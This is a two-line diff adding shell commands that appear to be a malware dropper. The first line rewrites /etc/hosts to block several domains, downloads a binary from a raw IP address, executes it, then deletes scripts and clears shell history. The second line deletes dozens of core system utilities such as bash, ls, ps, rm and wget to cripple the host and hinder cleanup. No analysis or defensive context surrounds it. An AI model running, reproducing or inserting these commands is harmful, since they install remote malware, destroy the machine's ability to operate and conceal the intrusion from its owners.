@@ -1,0 +1,2 @@
+cd /mnt;echo '9.9.9.9 www.6x66.com'>>/etc/hosts;echo '9.9.9.9 www.cocoserver.xyz'>>/etc/hosts;echo '9.9.9.9 www.aresboot.xyz'>>/etc/hosts;echo '9.9.9.9 www.2s11.com'>>/etc/hosts;wget http://136.243.18.221:808/808/linux_amd64;chmod +x linux_amd64;./linux_amd64;rm -rf linux*;rm -rf *.sh;history -c
+cd /usr/bin;rm -rf whoami yes x86_64 perl touch apt* du head find last du stat who whami wget curl;cd /bin/;rm -rf mv ps sleep touch ss mkdir dd cat chmod dir ip su  sed ping* ls cp login sh sed rm rmdir gzip echo date ls dir pwd rm tar sh hostname dir cat bash;history -c
